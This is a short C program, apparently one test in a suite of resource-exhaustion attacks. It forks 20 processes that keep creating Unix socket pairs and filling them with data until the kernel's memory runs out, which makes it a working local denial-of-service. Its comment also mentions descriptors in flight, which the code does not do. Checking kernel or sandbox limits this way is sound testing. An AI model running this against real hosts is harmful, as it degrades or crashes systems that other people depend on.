/* Memory that the kernel holds for it: pairs of sockets full of bytes, and of descriptors that are under way. */
#include "attack.h"
#include <sys/socket.h>
int main(void)
{
    static char block[1 << 15];
    for (int i = 0; i < 20; i++)
        if (fork() == 0) {
            int ends[2];
            while (socketpair(AF_UNIX, SOCK_DGRAM, 0, ends) == 0)
                while (send(ends[0], block, sizeof block, MSG_DONTWAIT) > 0);
            sleep(1);
            _exit(0);
        }
    while (wait(NULL) > 0);
    return 0;
}
